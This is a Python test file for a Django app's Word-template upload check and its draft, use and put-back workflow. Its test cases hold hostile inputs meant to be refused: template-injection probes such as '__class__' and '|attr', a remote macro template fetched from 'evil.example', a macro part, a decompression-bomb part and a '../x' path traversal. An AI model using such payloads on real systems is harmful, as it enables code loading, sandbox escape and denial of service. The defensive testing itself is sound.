"""Word templates: what is refused and how it is said, tried before use, put back."""

import io
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from nenmong.core.errors import DomainError
from nenmong.core.models import AuditEntry
from nenmong.meetings import actions, exports
from nenmong.meetings.queries import templates
from nenmong.meetings.rules.documents import FIELDS, Document
from nenmong.meetings.tests import journey
from nenmong.meetings.tests.drafts import changed, changed_template
from nenmong.meetings.tests.paper import everything, lines, read
from nenmong.org.tests.factories import UnitFactory, UserFactory
from nenmong.ui.documents import check
from nenmong.ui.own_templates import folder

MINUTES = Document.MINUTES
LIMIT = 2_000_000


@pytest.mark.parametrize("document", Document)
def test_our_own_templates_pass_the_check(document):
    check(templates.ours(document).read_bytes(), FIELDS[document], document.value)


@pytest.mark.parametrize("document", Document)
def test_a_made_up_meeting_prints_from_every_template(document):
    text = lines(read(exports.sample_docx(document)))
    assert not [line for line in text if "{" in line or "None" in line]


@pytest.mark.parametrize(
    ("tag", "code", "said"),
    [
        ("{{ chair.nmae }}", "documents.template_field", "chair.name"),
        ("{{ plcae }}", "documents.template_field", "“place”"),
        ("{% for item in agenda %}{{ item.titel }}{% endfor %}", "documents.template_field",
         "item.title"),
        ("{% for one in agenda %}{{ loop.nothing }}{% endfor %}", "documents.template_field",
         "loop.nothing"),
        ("{{ loop.index }}", "documents.template_field", "loop"),
        ("{{ chair.__class__ }}", "documents.template_field", "__class__"),
        ("{{ ''.__class__ }}", "documents.template_tag", ""),
        ("{{ chair['__class__'] }}", "documents.template_field", "__class__"),
        ("{{ cycler }}", "documents.template_field", "cycler"),
        ("{% for a in range(9) %}x{% endfor %}", "documents.template_tag", "call"),
        ("{{ 'a' * 99999999 }}", "documents.template_tag", "mul"),
        ("{% set x = 1 %}", "documents.template_tag", "assign"),
        ("{% include 'x' %}", "documents.template_tag", "include"),
        ("{{ place|attr('x') }}", "documents.template_tag", "|attr"),
        ("{% if place %}", "documents.template_broken", "if place"),
        ("{{ place", "documents.template_broken", ""),
        ("{% frobnicate %}", "documents.template_broken", "frobnicate"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_said_by_name(tag, code, said):
    with pytest.raises(DomainError) as refused:
        check(changed("bien-ban", tag), FIELDS[MINUTES], "bien-ban.docx")
    assert refused.value.code == code
    assert said in str(refused.value.message)


def with_part(name, content=b"x", types=None):
    """Return a template with one more part, as a Word file with macros has."""
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(changed("bien-ban")))
    with source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for one in source.namelist():
            read_ = source.read(one)
            if types and one == "[Content_Types].xml":
                read_ = read_.replace(*types)
            target.writestr(one, read_)
        target.writestr(name, content)
    return out.getvalue()


REMOTE = (
    b'<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("file", "code"),
    [
        (lambda: b"not a Word file", "documents.not_word"),
        (lambda: b"", "documents.not_word"),
        (lambda: b"x" * (LIMIT + 1), "documents.template_large"),
        (lambda: with_part("word/vbaProject.bin"), "documents.template_active"),
        (lambda: with_part("word/embeddings/a.xlsx"), "documents.template_active"),
        (lambda: with_part("word/_rels/settings.xml.rels", REMOTE), "documents.template_active"),
        (lambda: with_part("word/big.xml", b" " * 21_000_000), "documents.not_word"),
        (lambda: with_part("x", types=(b"wordprocessingml.document.main", b"x")),
         "documents.not_word"),
    ],
)  # fmt: skip
def test_a_file_that_is_no_plain_word_file_is_refused(file, code):
    with pytest.raises(DomainError) as refused:
        check(file(), FIELDS[MINUTES], "bien-ban.docx")
    assert refused.value.code == code


def shape_of(value):
    if isinstance(value, dict):
        return {key: shape_of(one) for key, one in value.items()}
    if isinstance(value, list):
        return [shape_of(value[0])] if value else []
    return ""


def fits(told, fields, at=""):
    """Yield where a context and the table of fields differ."""
    if isinstance(fields, dict) and isinstance(told, dict):
        yield from (f"{at}.{key}" for key in fields.keys() ^ told.keys())
        for key in fields.keys() & told.keys():
            yield from fits(told[key], fields[key], f"{at}.{key}")
    elif isinstance(fields, list) and isinstance(told, list):
        yield from fits(told[0], fields[0], f"{at}[]") if told else ()
    elif isinstance(fields, list) != isinstance(told, list):
        yield at


@pytest.mark.parametrize("document", Document)
def test_the_table_of_fields_is_what_documents_are_printed_from(document, monkeypatch):
    seen = []
    real = exports.printing.render

    def render(template, context, **said):
        seen.append((document if len(seen) == 0 else MINUTES, context))
        return real(template, context, **said)

    monkeypatch.setattr(exports.printing, "render", render)
    exports.sample_docx(document)
    for kind, context in seen:
        assert list(fits(shape_of(context), FIELDS[kind])) == []


# ── in use ──────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def keeper(db):
    return UserFactory.holding("administrator", UnitFactory())


def use(keeper, *words):
    said = {"actor": keeper, "document": "bien-ban"}
    sha256 = actions.upload_template(content=changed_template("bien-ban", *words), **said)
    return actions.use_template(sha256=sha256, **said)


def last_line(document=MINUTES):
    return lines(read(exports.sample_docx(document)))[-1]


def test_a_draft_prints_nothing_until_it_is_put_in_use(keeper):
    content = changed_template("bien-ban", "Mẫu mới")
    sha256 = actions.upload_template(actor=keeper, document="bien-ban", content=content)
    assert last_line() != "Mẫu mới"
    actions.use_template(actor=keeper, document="bien-ban", sha256=sha256)
    assert last_line() == "Mẫu mới"
    assert templates.drafts() == []


def test_only_what_was_looked_at_is_put_in_use(keeper):
    said = {"actor": keeper, "document": "bien-ban"}
    seen = actions.upload_template(content=changed_template("bien-ban", "Một"), **said)
    actions.upload_template(content=changed_template("bien-ban", "Hai"), **said)
    with pytest.raises(DomainError, match=r"documents\.template_gone"):
        actions.use_template(sha256=seen, **said)


def test_an_earlier_one_is_put_back_and_ours_too(keeper):
    first = use(keeper, "Một")
    use(keeper, "Hai")
    actions.put_back_template(actor=keeper, document="bien-ban", sha256=first)
    assert last_line() == "Một"
    actions.put_back_template(actor=keeper, document="bien-ban", sha256="")
    assert last_line() not in {"Một", "Hai"}
    state = next(one for one in templates.state() if one.document is MINUTES)
    assert not state.own
    assert len(state.before) == 2
    verbs = AuditEntry.objects.filter(verb__startswith="documents.").values_list("verb", flat=True)
    assert sorted(verbs) == sorted(
        ["documents.template_uploaded", "documents.template_put_in_use"] * 2
        + ["documents.template_put_back"] * 2
    )


def test_one_put_there_by_hand_is_kept_when_another_comes(keeper):
    by_hand = changed("bien-ban", "Bằng tay")
    folder().mkdir()
    templates.own(MINUTES).write_bytes(by_hand)
    use(keeper, "Qua trang")
    actions.put_back_template(actor=keeper, document="bien-ban", sha256=templates.digest(by_hand))
    assert last_line() == "Bằng tay"


def test_a_hash_that_never_was_in_use_opens_no_file(keeper):
    (folder() / "kho").mkdir(parents=True)
    (folder() / "x.docx").write_bytes(b"x")
    with pytest.raises(DomainError, match=r"documents\.template_gone"):
        actions.put_back_template(actor=keeper, document="bien-ban", sha256="../x")


# ── pages ───────────────────────────────────────────────────────────────────────────────────


def send(client, content, name="bien-ban"):
    file = SimpleUploadedFile("mau.docx", content)
    return client.post(reverse("meetings:template_upload", args=[name]), {"file": file})


def test_the_way_of_a_template_through_the_pages(client, keeper):
    client.force_login(keeper)
    refused = send(client, changed("bien-ban", "{{ plcae }}"))
    assert refused.status_code == 422
    assert "“place”" in refused.content.decode()
    assert templates.drafts() == []
    assert send(client, changed("bien-ban", "Mẫu mới")).status_code == 302
    page = client.get(reverse("meetings:templates")).content.decode()
    draft = templates.draft(MINUTES)
    assert templates.digest(draft.read_bytes()) in page
    sample = client.get(reverse("meetings:template_sample", args=["bien-ban"]))
    assert "Mẫu mới" in everything(sample.content)
    url = reverse("meetings:template_use", args=["bien-ban"])
    client.post(url, {"sha256": templates.digest(draft.read_bytes())})
    file = client.get(reverse("meetings:template_file", args=["bien-ban", "dang-dung"]))
    assert "Mẫu mới" in everything(file.content)
    again = client.get(reverse("meetings:templates")).content.decode()
    assert reverse("meetings:template_back", args=["bien-ban"]) in again
    assert str(keeper) in again


def test_notice_and_form_are_tried_on_a_meeting_being_prepared(client, keeper):
    unit, secretary, _scribe = journey.cell(5)
    meeting = journey.planned(unit, secretary)
    prepare = reverse("meetings:prepare", args=[meeting.uid])
    client.force_login(secretary)
    office = UserFactory.holding("office", unit.parent)
    for name in ("thong-bao", "phieu-ghi"):
        url = reverse("meetings:template_trial", args=[meeting.uid, name])
        assert url not in client.get(prepare).content.decode()
        draft = changed_template(name, "Mẫu mới")
        actions.upload_template(actor=keeper, document=name, content=draft)
        assert url in client.get(prepare).content.decode()
        assert "Mẫu mới" in everything(client.get(url).content)
        other = Client()
        other.force_login(office)  # what a meeting is about is the cell's own until the seal
        assert other.get(url).status_code == 403
    sealed = journey.sealed(unit, secretary, date(2026, 9, 3))
    record = client.get(reverse("meetings:record", args=[sealed.uid])).content.decode()
    url = reverse("meetings:template_trial", args=[sealed.uid, "thong-bao"])
    assert url in record
    other = Client()
    other.force_login(office)
    assert "Mẫu mới" in everything(other.get(url).content)


def test_a_real_meeting_is_tried_by_who_may_see_it_and_names_nobody(client, keeper):
    unit, secretary, _scribe = journey.cell(5)
    meeting = journey.sealed(unit, secretary)
    spoke = meeting.names.first().name
    url = reverse("meetings:template_trial", args=[meeting.uid, "bien-ban"])
    client.force_login(secretary)
    assert client.get(url).status_code not in {200, 404}
    record = reverse("meetings:record", args=[meeting.uid])
    assert url not in client.get(record).content.decode()
    draft = changed_template("bien-ban", "Mẫu mới")
    actions.upload_template(actor=keeper, document="bien-ban", content=draft)
    assert url in client.get(record).content.decode()
    told = everything(client.get(url).content)
    assert "Mẫu mới" in told
    assert f"Đồng chí {spoke}: " not in told
    client.force_login(keeper)
    assert client.get(url).status_code == 404
